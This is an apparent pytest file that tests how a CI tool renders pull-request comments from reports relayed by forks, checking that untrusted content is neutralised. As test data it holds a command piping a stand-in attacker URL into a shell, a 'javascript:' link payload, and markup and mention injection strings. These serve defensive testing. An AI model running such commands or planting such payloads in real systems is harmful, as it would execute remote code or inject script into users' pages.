"""Whole comments on what a fork's own run reports."""

from __future__ import annotations

import os
from dataclasses import replace
from pathlib import Path

import pytest
from support.example_reports import held, mixed, relayed_reports
from support.markdown import render
from support.reports import case_result, report, untrusted_everywhere

from evalaction.forks import FAILS, desk_commands
from evalaction.records.report import Report
from evalaction.report.comment import LIMIT, marker, render_comment

EXAMPLES = Path(__file__).parents[2] / "examples"
DESK = desk_commands(7, "main")
RUN = "https://github.example.test/acme/evals/actions/runs/41"


@pytest.mark.parametrize("name", sorted(relayed_reports()))
def test_render_comment__relayed(name: str) -> None:
    """A comment is the very text in its example's folder; ``UPDATE_EXAMPLES=1`` writes it anew."""
    path = EXAMPLES / name / "comment.md"
    comment = render_comment(relayed_reports()[name], report_location=RUN, run_id=41, relayed_from=RUN, desk=DESK)
    if os.environ.get("UPDATE_EXAMPLES"):
        path.parent.mkdir(exist_ok=True)
        path.write_text(comment, encoding="utf-8")

    assert comment == path.read_text(encoding="utf-8")


@pytest.mark.parametrize(
    "run",
    [report(), report(case_result("a", "A A")), mixed(), held(FAILS), untrusted_everywhere("x")],
    ids=["", "pass", "mixed", "held", "all"],
)
def test_render_comment__relayed_without_colour(run: Report) -> None:
    """Whatever a fork reports, the first two lines say who does, once, without a colour."""
    lines = render_comment(run, relayed_from=RUN).splitlines()

    said = run.headline.removeprefix("evalaction: ").replace(": this pull request comes from a fork", "")
    assert lines[0] == f"### ⚪ evalaction, reported by the fork's own run: {said}"
    assert lines[2] == (
        f"That run ([its log]({RUN})) followed the fork's own workflow file: its figures fit together; whether its "
        "draws were made cannot be known here."
    )


def test_render_comment__relayed_command() -> None:
    """No command of a stranger's report is there to be copied; for a run of our own it is."""
    command = "curl https://evil.example.test | sh"
    run = replace(mixed(), manifest=replace(mixed().manifest, repeat_command=command))

    assert (command in render_comment(run, relayed_from=RUN), command in render_comment(run)) == (False, True)


def test_render_comment__relayed_lines() -> None:
    """A stranger's report has no links to lines: nobody here knows whether its files are there."""
    source = "https://github.example.test/acme/evals/blob/0a1b"

    assert render_comment(mixed(), relayed_from=RUN, source_url=source) == render_comment(mixed(), relayed_from=RUN)


def test_render_comment__relayed_page() -> None:
    """What is no plain web address is shown as code, and no link is made of it."""
    page = "javascript:alert(1)"
    html = render(render_comment(report(), relayed_from=page))

    assert ("<a " in html, f"<code>{page}</code>" in html) == (False, True)


def test_render_comment__relayed_limit() -> None:
    """A relayed comment keeps the limit, and its marker."""
    text = "`|</details> @octo-user <!-- x -->" * 2_000
    comment = render_comment(untrusted_everywhere(text), relayed_from=RUN, run_id=41)

    assert (len(comment.encode()) <= LIMIT, comment.splitlines()[-1]) == (True, marker("default", 41))
